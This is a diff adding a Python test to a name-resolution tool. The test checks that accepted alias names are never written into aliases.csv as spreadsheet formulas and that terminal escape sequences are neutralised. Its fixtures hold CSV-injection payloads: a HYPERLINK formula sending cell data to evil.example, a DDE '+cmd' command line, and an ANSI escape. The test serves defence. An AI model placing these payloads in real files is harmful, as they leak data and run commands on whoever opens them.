@@ -266,6 +266,41 @@ def test_resolve_command_reports_and_accepts_each_strong_pair_once(tmp_path):
     assert "candidate" not in after.output  # what is one node is no longer proposed
 
 
+def test_accepted_names_are_never_formulas_and_read_back_as_written(tmp_path):
+    """An attack: names starting with = + - @ went raw into aliases.csv (a spreadsheet
+    runs them), a file without a last line end had the first new row glued to its last
+    row, and names reached the terminal with their escape sequences."""
+    src = tmp_path / "src"
+    src.mkdir()
+    pairs = [('=HYPERLINK("http://evil.example/?"&A1,"x")',
+              '=HYPER LINK("http://evil.example/?"&A1,"x")'),
+             ("+cmd|' /C calc'!A0", "+cmd|' /C calc'!A 0"), ("@SUM(1+1)", "@S UM(1+1)"),
+             ("Open\x1b[2JAI", "Op en\x1b[2JAI")]
+    names = [name for name, _ in pairs]
+    apart = tmp_path / "apart.csv"  # two nodes each, so the review proposes them
+    with apart.open("w", encoding="utf-8", newline="") as handle:
+        for n, (name, spaced) in enumerate(pairs):
+            (src / f"a{n}.md").write_text(
+                f"# __A{n}__, (from page [20250101](https://x.org/p/20250101).)\n\n"
+                f"## Keywords\n\n* {name}\n\n## Themes\n\n* {spaced}\n", encoding="utf-8")
+            csv.writer(handle).writerow(["never", name, spaced])
+    graph = tmp_path / "out" / "graph.ttl"
+    build([src], graph.parent, base=BASE, today=TODAY, html=False, aliases=apart)
+    accepted = tmp_path / "aliases.csv"
+    accepted.write_text("same,Digital Twins,digital twin technology", encoding="utf-8")
+    result = CliRunner().invoke(main, ["resolve", str(graph), "--accept", str(accepted)])
+    assert result.exit_code == 0, result.output
+    assert "\x1b" not in result.output and "\\x1b[2J" in result.output
+    rows = list(csv.reader(accepted.open(encoding="utf-8")))
+    assert rows[0] == ["same", "Digital Twins", "digital twin technology"]
+    assert len(rows) == 1 + len(names)
+    assert not [cell for row in rows for cell in row if cell[:1] in "=+-@"]
+    table = AliasTable.read(accepted)
+    assert {table.canonical(resolution_key(name)) for name in names} == \
+        {table.canonical(resolution_key(row[1])) for row in rows[1:]}
+    assert len(table.joined) == 1 + len(names)  # each pair joined, as written
+
+
 def test_shared_nodes_index_joined_keys_and_gather_names_before_facts():
     """Each node once, in the order of its first key; a node's keys (its own when it is
     one); names then facts gather what `add` does (a full build adds facts after the
